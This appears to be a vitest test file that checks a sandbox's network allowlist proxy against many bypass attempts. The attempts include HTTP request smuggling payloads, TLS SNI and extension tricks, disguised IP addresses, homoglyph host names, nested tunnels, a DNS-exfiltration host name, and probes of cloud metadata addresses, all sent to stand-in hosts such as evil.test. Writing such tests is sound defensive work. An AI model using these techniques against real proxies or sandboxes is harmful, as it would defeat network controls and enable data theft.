/** Code in a sandbox cannot reach hosts that are not on its list. */
import { type Server, type Socket, createServer } from "node:net";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { endLater } from "../setup/end-later.ts";
import { TestSandbox, startTestEngine } from "../setup/engine-client.ts";
import { listen } from "../setup/listen.ts";

/** The requests that arrived, by server: `good` serves the hosts of the list, `evil` all others. */
const arrived = { good: "", evil: "" };
/** The requests that arrived between one request for `/attempt-<number>` and the next. */
const arrivedAt: (typeof arrived)[] = [];

/** Responds with 200 to each request head, also to a second one in the same connection. */
function serve(which: keyof typeof arrived): Server {
  return createServer((socket: Socket) => {
    if (which === "evil") arrived.evil += "connected ";
    socket.on("error", () => undefined);
    socket.on("data", (data) => {
      const text = data.toString("latin1");
      const next = /^GET \/attempt-(\d+)/.exec(text)?.[1];
      if (next !== undefined) arrivedAt[Number(next) - 1] = { ...arrived };
      if (next !== undefined) arrived.good = arrived.evil = "";
      arrived[which] += text;
      if (/upgrade: websocket/i.test(text))
        socket.write("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
      else if (text.startsWith("GET /to-evil"))
        socket.end("HTTP/1.1 302 Found\r\nLocation: http://evil.test/\r\nContent-Length: 0\r\n\r\n");
      else if (text.startsWith("GET /silent")) return;
      else if (text.startsWith("\x16") || text === "frames") socket.end();
      else if (/^[A-Z]+ \/\S* HTTP/.test(text))
        socket.end("HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ngood");
    });
  });
}

const good = serve("good");
const evil = serve("evil");
const listed = { internet: "allowlist", allowHosts: ["good.test", "*.wild.test"] } as const;

const [to, elsewhere] = [await listen(endLater(good)), await listen(endLater(evil))];
const goods = ["good.test:80", "good.test:443", "x.wild.test:80", "good.test:8080", "good.test:22"];
const evils = ["evil.test", "wild.test", "good.test.evil.test", "1.1.1.1", "good.test."];
const allowAddresses = [
  ...goods.map((host) => `${host}=${to}`),
  ...evils.flatMap((host) => [80, 443, 22].map((port) => `${host}:${port}=${elsewhere}`)),
];
const engine = endLater(await startTestEngine({ allowAddresses }));
const keyed = ["key.wild.test", "key.test"];
const intercepts = { http: keyed, https: keyed };
const sandbox = await TestSandbox.start(engine, { policy: listed, intercepts });
beforeAll(() => sandbox.run(`cat > /tmp/tries.py <<'END'\n${TRIES}\nEND`));

beforeEach(() => {
  arrived.good = arrived.evil = "";
});

/** Python functions: `ask` sends bytes to the proxy and returns the response; `hello` makes the first message of TLS. */
const TRIES = `
import socket, ssl, struct, time
def ask(*parts):
    s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(2); got = b""
    for index, part in enumerate(parts):
        try:
            s.sendall(part)
            if 0 < index < len(parts) - 1: time.sleep(0.05)
            else:
                while True:
                    more = s.recv(65536)
                    got += more
                    if not more or index == 0 < len(parts) - 1: break
        except (TimeoutError, ConnectionError): pass
    return got
def hello(name):
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); context.check_hostname = False
    try: context.wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def connect(to): return f"CONNECT {to} HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n".encode()
def get(url, host="good.test", more="Connection: close\\r\\n"): return f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n".encode()
def tunnel(port, *parts): return ask(connect(f"good.test:{port}"), *parts)
def post(*lines, body=b""): return "\\r\\n".join(("POST http://good.test/ HTTP/1.1", "Host: good.test", *lines, "", "")).encode() + body
def extended(name, kind, data):
    record = hello(name); body = record[9:]
    at = 34; at += 1 + body[at]; at += 2 + struct.unpack(">H", body[at:at+2])[0]; at += 1 + body[at]
    extensions = body[at+2:] + struct.pack(">HH", kind, len(data)) + data
    body = body[:at] + struct.pack(">H", len(extensions)) + extensions
    message = b"\\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\\x16\\x03\\x01" + struct.pack(">H", len(message)) + message
LAST = b"0\\r\\n\\r\\n"
SMUGGLED = get("http://evil.test/smuggled", host="evil.test")
`;

const LOAD_TRIES = 'exec(open("/tmp/tries.py").read())';

/** The response to invalid HTTP: none, or a refusal. */
const NOT_HTTP = /^b''|400|403/;
/** The end of a handshake that names no host of the list. */
const TLS_ALERT = /\\x15\\x03\\x03/;

async function runAttempt(expression: string): Promise<string> {
  const { stdout, stderr } = await sandbox.python([LOAD_TRIES, `print(${expression})`]);
  expect(stderr).toBe("");
  return stdout;
}

/** Each attempt as a Python expression, with its expected response. */
const ATTEMPTS: [what: string, expression: string, reply: RegExp][] = [
  ["another host by HTTP", `ask(get("http://evil.test/x"))`, /403/],
  ["another host by CONNECT", `ask(connect("evil.test:443"), hello("evil.test"))`, /403/],
  ["the parent domain of a wildcard", `ask(get("http://wild.test/x"))`, /403/],
  ["a name that ends or begins like a listed one", `ask(get("http://good.test.evil.test/x"))`, /403/],
  ["a second dot at the end of a name", `ask(connect("good.test..:443"), hello("good.test"))`, /403|400/],
  [
    "a NUL in a name",
    `ask(b"CONNECT good.test\\0.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
    NOT_HTTP,
  ],
  ["an encoded NUL in a name", `ask(get("http://good.test%00.evil.test/x"))`, /400|403/],
  ["a user name that looks like a host", `ask(get("http://good.test@evil.test/x"))`, /403/],
  [
    "a letter of another script",
    `ask("GET http://g\\u043e\\u043ed.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())`,
    NOT_HTTP,
  ],
  ["an address", `ask(connect("1.1.1.1:443"), hello("good.test"))`, /403/],
  ["an address in hexadecimal", `ask(get("http://0x01010101/x"))`, /403/],
  ["an address in octal", `ask(get("http://01.01.01.01/x"))`, /403/],
  ["an address in octal by CONNECT", `ask(connect("00000000001.0x1.1:443"), hello("good.test"))`, /403/],
  ["an address as one number", `ask(connect("16843009:443"), hello("good.test"))`, /403/],
  ["an IPv6 address", `ask(connect("[2606:4700:4700::1111]:443"), hello("good.test"))`, /403/],
  ["an IPv4 address inside an IPv6 address", `ask(get("http://[::ffff:1.1.1.1]/x"))`, /403/],
  ["another port by CONNECT", `tunnel(22, b"SSH-2.0-x\\r\\n")`, /403/],
  ["another port by HTTP", `ask(get("http://good.test:8080/x"))`, /403/],
  ["another name in TLS", `tunnel(443, hello("evil.test"))`, /\\x15\\x03\\x03\\x00\\x02\\x02p/],
  ["no name in TLS", `tunnel(443, hello(None))`, TLS_ALERT],
  [
    "a second name in TLS",
    `tunnel(443, extended("good.test", 0, b"\\0\\x0c\\0\\0\\x09evil.test"))`,
    TLS_ALERT,
  ],
  ["an encrypted name in TLS", `tunnel(443, extended("good.test", 0xfe0d, b"x" * 40))`, TLS_ALERT],
  [
    "a name in TLS in pieces of a few bytes",
    `tunnel(443, hello("evil.test")[:7], hello("evil.test")[7:60], hello("evil.test")[60:])`,
    /\\x15\\x03\\x03|200 Conn/,
  ],
  ["other data in a tunnel for TLS", `tunnel(443, get("/x", host="evil.test"))`, TLS_ALERT],
  ["HTTP/2 in a tunnel for HTTP", `tunnel(80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`, /200 Conn|400/],
  ["HTTP/2 at the proxy", `ask(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`, /^b''|400/],
  ["another host in a tunnel for HTTP", `tunnel(80, get("/x", host="evil.test"))`, /403/],
  ["another listed host in a tunnel for HTTP", `tunnel(80, get("/x", host="x.wild.test"))`, /403/],
  [
    "another listed host in a tunnel for HTTP to a host with a secret",
    `ask(connect("key.wild.test:80"), get("/x", host="good.test"))`,
    /403/,
  ],
  ["a tunnel for HTTP to a host with a secret that is not listed", `ask(connect("key.test:80"))`, /403/],
  ["a tunnel in a tunnel to a host with a secret", `tunnel(80, connect("key.wild.test:80"))`, /403/],
  ["a tunnel in a tunnel", `tunnel(80, connect("evil.test:443"), hello("evil.test"))`, /403/],
  [
    "an upgrade to HTTP/2",
    `ask(get("http://good.test/x", more="Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
    /501|200/,
  ],
  [
    "both a Content-Length and a Transfer-Encoding",
    `ask(post("Content-Length: 4", "Transfer-Encoding: chunked", body=LAST) + SMUGGLED)`,
    NOT_HTTP,
  ],
  ...[
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity",
    "Transfer-Encoding:\\x0bchunked",
    "X: y\\r\\n Transfer-Encoding: chunked",
    "Content-Length: 4\\r\\nContent-Length: 40",
    "Content-Length: 4, 40",
    "Content-Length: +4",
  ].map((header): [string, string, RegExp] => [
    `an ambiguous length: ${header}`,
    `ask(post("Content-Length: 4", "${header}", body=LAST) + SMUGGLED)`,
    NOT_HTTP,
  ]),
  [
    "a request in a chunk's extension",
    `ask(post("Transfer-Encoding: chunked", body=b"0;\\n\\r\\n\\r\\n") + SMUGGLED)`,
    /./,
  ],
  [
    "a body with the transfer coding gzip",
    `ask(post("Transfer-Encoding: gzip, chunked", "Connection: close", body=b"2\\r\\nhi\\r\\n" + LAST))`,
    /501/,
  ],
  ["another host in the Host header", `ask(get("http://good.test/x", host="evil.test"))`, /200/],
  [
    "two Host headers",
    `ask(get("http://good.test/x", more="Host: evil.test\\r\\nConnection: close\\r\\n"))`,
    /200|400/,
  ],
  ["a request in origin form for another host", `ask(get("/x", host="evil.test"))`, /403/],
  ["a length that is not a number", `ask(post("Content-Length: 0x4", body=LAST))`, /^b''|400/],
  [
    "a request after another",
    `ask(get("http://good.test/a") + get("http://evil.test/pipelined", host="evil.test"))`,
    /./,
  ],
  [
    "a line end in a header",
    `ask(get("http://good.test/a", more="X: y\\n\\nGET / HTTP/1.1\\nHost: evil.test\\r\\n"))`,
    /./,
  ],
  ["a path that looks like a host", `ask(get("//1.1.1.1/x"))`, /200/],
  ["a backslash before a host", `ask(get("http://good.test\\\\@evil.test/x"))`, NOT_HTTP],
  ["a fragment that looks like a host", `ask(get("http://evil.test#@good.test/x"))`, NOT_HTTP],
  [
    "a user name and a password that look like a host and a port",
    `ask(get("http://good.test:80@evil.test:80/x"))`,
    /403/,
  ],
  ["a port above 65,535", `ask(connect("good.test:65979"), hello("good.test"))`, /400|403/],
  ["a port in another spelling", `ask(connect("good.test:0022"), b"SSH-2.0-x")`, /403/],
  ["CONNECT without a port", `ask(connect("good.test"), b"SSH-2.0-x\\r\\n\\r\\n")`, /./],
  ["a path behind a port", `ask(connect("evil.test:443/@good.test:443"), hello("good.test"))`, /400|403/],
  [
    "a tab in a name",
    `ask(b"GET http://good.test\\t.evil.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
    NOT_HTTP,
  ],
  ["a name of a thousand characters", `ask(get("http://" + "a." * 500 + "evil.test/x"))`, /400|403/],
  [
    "a name of a thousand characters by CONNECT",
    `ask(connect("a." * 500 + "evil.test:443"), hello("good.test"))`,
    /400|403/,
  ],
  ["the scheme https", `ask(get("https://good.test/x"))`, /400/],
  ["the scheme ftp", `ask(get("ftp://evil.test/x"))`, /400/],
  ["the path *", `ask(b"OPTIONS * HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")`, /400|403/],
  [
    "line ends without a carriage return",
    `ask(b"GET http://good.test/a HTTP/1.1\\nHost: good.test\\n\\nGET http://evil.test/ HTTP/1.1\\nHost: evil.test\\n\\n")`,
    /./,
  ],
  [
    "line ends without a line feed",
    `ask(get("http://good.test/a", more="X: y\\rHost: evil.test\\r\\rGET / HTTP/1.1\\r\\r\\n"))`,
    /^b''|400/,
  ],
  ["HTTP/0.9", `ask(b"GET http://evil.test/\\r\\n\\r\\n")`, NOT_HTTP],
  [
    "a second request on an HTTP/1.0 connection",
    `ask(b"GET http://good.test/a HTTP/1.0\\r\\nConnection: keep-alive\\r\\n\\r\\nGET http://evil.test/ HTTP/1.0\\r\\n\\r\\n")`,
    /./,
  ],
  ["TLS in a tunnel for HTTP", `tunnel(80, hello("evil.test"))`, /200 Conn|400/],
  [
    "a chunk with a negative length",
    `ask(post("Transfer-Encoding: chunked", body=b"-1\\r\\n\\r\\n") + SMUGGLED)`,
    NOT_HTTP,
  ],
  [
    "a chunk's length above 64 bits",
    `ask(post("Transfer-Encoding: chunked", body=b"10000000000000000\\r\\n\\r\\n") + SMUGGLED)`,
    NOT_HTTP,
  ],
  [
    "a trailer",
    `ask(post("Transfer-Encoding: chunked", "Trailer: Host", body=b"0\\r\\nHost: evil.test\\r\\n\\r\\n"))`,
    /200|400/,
  ],
  [
    "a Connection header that names Host",
    `ask(get("http://good.test/x", more="Connection: host, close\\r\\n"))`,
    /200/,
  ],
  [
    "a host name that would carry data to a name server",
    `ask(connect("c2VjcmV0.evil.example.com:443"))`,
    /403/,
  ],
];

/** An attempt's response, and the requests that arrived at both servers. */
type Outcome = { output: string } & typeof arrived;

let outcomes: Map<string, Outcome> | undefined;

/** Makes all attempts in one process, one after the other. A marked request before each attempt separates them. */
async function runAttempts(): Promise<Map<string, Outcome>> {
  const between = (index: number) => `ask(get("http://good.test/attempt-${index}"))`;
  const script = ATTEMPTS.map(([, expression], index) => `${between(index)}\nprint(${expression})`);
  const { stdout, stderr } = await sandbox.python([LOAD_TRIES, ...script, between(ATTEMPTS.length)]);
  expect(stderr).toBe("");
  const lines = stdout.split("\n");
  const made = ATTEMPTS.map(([what], index): [string, Outcome] => {
    const { good: listedGot = "", evil: otherGot = "" } = arrivedAt[index] ?? {};
    return [what, { output: lines[index] ?? "", good: listedGot, evil: otherGot }];
  });
  return new Map(made);
}

describe("a sandbox with a list of hosts", () => {
  it("reaches these hosts by HTTP, tunnelled or not, by TLS and by WebSocket", async () => {
    expect(await runAttempt(`ask(get("http://good.test/plain"))`)).toContain("200");
    expect(await runAttempt(`ask(get("http://X.WILD.test./wild"))`)).toContain("200");
    expect(await runAttempt(`ask(connect("good.test:80"), get("/tunnelled"))`)).toContain("200 OK");
    expect(await runAttempt(`ask(connect("GOOD.test.:443"), hello("good.test"))`)).toContain(
      "200 Connection",
    );
    expect(
      await runAttempt(
        `ask(get("http://good.test/ws", more="Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n"), b"frames")`,
      ),
    ).toContain("101");
    for (const part of ["/plain", "/wild", "/tunnelled", "\x16\x03\x01", "/ws", "frames"])
      expect(arrived.good).toContain(part);
    expect(arrived.evil).toBe("");
  });

  it.each(ATTEMPTS)("reaches no other host by %s", async (what, _expression, reply) => {
    outcomes ??= await runAttempts();
    const { output, good: listedGot, evil: otherGot } = outcomes.get(what) ?? {};
    expect(output).toMatch(reply);
    expect(otherGot).toBe("");
    expect(listedGot).not.toMatch(/evil\.test|PRI \*|SSH/);
  });

  it.each(["GET", "HEAD", "DELETE", "OPTIONS"])(
    "cannot hide a request in the body of %s: it stays part of the body",
    async (method) => {
      const inner = "GET /in-body HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
      const send = async (framing: string, body: string) =>
        await runAttempt(
          `ask(b"${method} http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n${framing}\\r\\n\\r\\n${body}")`,
        );
      await send("Connection: close\\r\\nTransfer-Encoding: chunked", `2a\\r\\n${inner}\\r\\n0\\r\\n\\r\\n`);
      expect(arrived.good).toMatch(/^[A-Z]+ \/ HTTP\/1.1\r\n/);
      expect(arrived.good).toMatch(/\r\ntransfer-encoding: chunked\r\n[^]*?\r\n\r\n2a\r\nGET \/in-body/i);
      arrived.good = "";
      // A client's Connection header does not remove Content-Length.
      await send("Connection: close, Content-Length\\r\\nContent-Length: 42", inner);
      expect(arrived.good).toMatch(/\r\ncontent-length: 42\r\n[^]*?\r\n\r\nGET \/in-body/i);
    },
  );

  it("can name another host inside TLS with a listed server, because the proxy does not decrypt it", async () => {
    await runAttempt(
      `ask(connect("good.test:443"), hello("good.test") + get("/fronted", host="other.test") + b"PRI * HTTP/2.0")`,
    );
    expect(arrived.good).toMatch(/Host: other\.test\r\n[^]*PRI \*/);
  });

  it("has no route, name server, raw socket or IPv6", async () => {
    const script = `
import socket, sys
def attempt(what):
    try: what(); print("got out")
    except OSError as error: print("no", file=sys.stderr)
for family, to in ((socket.AF_INET, ("1.1.1.1", 443)), (socket.AF_INET6, ("2606:4700:4700::1111", 443))):
    attempt(lambda: socket.create_connection(to, 2))
    attempt(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b"x", (to[0], 53)))
    attempt(lambda: socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x" * 8, (to[0], 0)))
attempt(lambda: socket.getaddrinfo("c2VjcmV0.example.com", 443))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).bind(("eth0", 0)))`;
    const { stdout, stderr } = await sandbox.python(script);
    expect(stdout).toBe("");
    expect(stderr.match(/no/g)).toHaveLength(8);
  });

  it("has status 499 in the log for a request whose client has disconnected", async () => {
    const one = await TestSandbox.start(engine, { policy: listed });
    await one.run(
      `python3 -c "import socket; s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'GET http://good.test/silent HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')"`,
    );
    const readLog = async () => JSON.parse(await (await one.call("GET", "/connections")).text()).connections;
    await expect.poll(readLog).toMatchObject([{ host: "good.test", method: "GET", status: 499 }]);
    await one.destroy();
  });

  it("has no refusal in the log if a program leaves its tunnel before the TLS handshake", async () => {
    const one = await TestSandbox.start(engine, { policy: listed });
    await one.run(
      `for part in '' $'\\x16\\x03\\x01'; do
exec 3<>/dev/tcp/127.0.0.1/3128
printf 'CONNECT good.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; head -n 2 <&3; printf "$part" >&3; exec 3>&-
done`,
    );
    const readLog = async () => JSON.parse(await (await one.call("GET", "/connections")).text());
    const left = { host: "good.test", method: "CONNECT", status: 499 };
    await expect.poll(readLog).toMatchObject({ refused: 0, connections: [left, left] });
    await one.destroy();
  });

  it("gets a redirect unchanged, and cannot follow it to another host", async () => {
    const { stdout } = await sandbox.run(
      "curl -sS -o /dev/null -w '%{num_redirects} %{http_code}' -L http://good.test/to-evil",
    );
    expect(stdout).toBe("1 403");
    expect(arrived.evil).toBe("");
  });

  it("has each connection in the log, and the number of refused ones", async () => {
    const ownSandbox = await TestSandbox.start(engine, { policy: listed });
    await ownSandbox.run(
      "curl -sS http://good.test/counted; curl -sS http://evil.test/; curl -sS https://evil.test/",
    );
    const { refused, connections } = JSON.parse(await (await ownSandbox.call("GET", "/connections")).text());
    expect(refused).toBe(2);
    expect(connections).toMatchObject([
      { host: "good.test", port: 80, method: "GET", status: 200 },
      { host: "evil.test", port: 80, method: "GET", status: 403, refused: "policy" },
      { host: "evil.test", port: 443, method: "CONNECT", refused: "policy" },
    ]);
    const refusals = async () => JSON.parse(await (await ownSandbox.call("GET", "/refusals/0")).text());
    expect(await refusals()).toEqual([{ host: "evil.test", why: "policy", count: 2 }]);
    await ownSandbox.run(
      `curl -sSk --connect-to evil.test:443:good.test:443 https://evil.test/; curl -sS http://good.test:8080/; curl -sSp -H 'Host: evil.test' http://good.test/
exec 3<>/dev/tcp/127.0.0.1/3128
for to in good.test:80 evil.test:443; do printf 'CONNECT %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' $to >&3; head -n 2 <&3; done`,
    );
    expect((await refusals()).slice(1)).toEqual([
      { host: "good.test", why: "mismatch", count: 1 },
      { host: "good.test", port: 8080, why: "policy", count: 1 },
      { host: "evil.test", why: "mismatch", count: 2 },
    ]);
    expect(JSON.parse(await (await ownSandbox.call("GET", "/connections")).text()).refused).toBe(6);
    const { stdout } = await ownSandbox.run(
      "for host in '[::ffff:7f00:1]' 10.1.2.3 metadata.google.internal; do curl -sS http://$host/ --proxy $http_proxy --noproxy ''; done; curl -sS https://10.1.2.3/ --noproxy ''",
    );
    expect(stdout).toContain("10.1.2.3 is a private address");
    // The result names at most five hosts.
    expect((await refusals()).slice(4)).toEqual([{ host: "::ffff:7f00:1", why: "address", count: 1 }]);
    const { connections: last } = JSON.parse(await (await ownSandbox.call("GET", "/connections")).text());
    expect(last.slice(-3)).toMatchObject([
      { host: "10.1.2.3", method: "GET", refused: "address" },
      { host: "metadata.google.internal", method: "GET", refused: "address" },
      { host: "10.1.2.3", method: "CONNECT", refused: "address" },
    ]);
    await ownSandbox.destroy();
  });
});

describe("a changed policy", () => {
  it("applies to every later connection", async () => {
    const one = await TestSandbox.start(engine);
    const ask = async () =>
      (await one.run("curl -sS -o /dev/null -w '%{http_code}' http://good.test/")).stdout;
    expect(await ask()).toBe("200");
    await one.call("PUT", "/policy", { internet: "none", allowHosts: [] });
    expect(await ask()).toBe("403");
    await one.call("PUT", "/policy", listed);
    expect(await ask()).toBe("200");
    await one.destroy();
  });
});
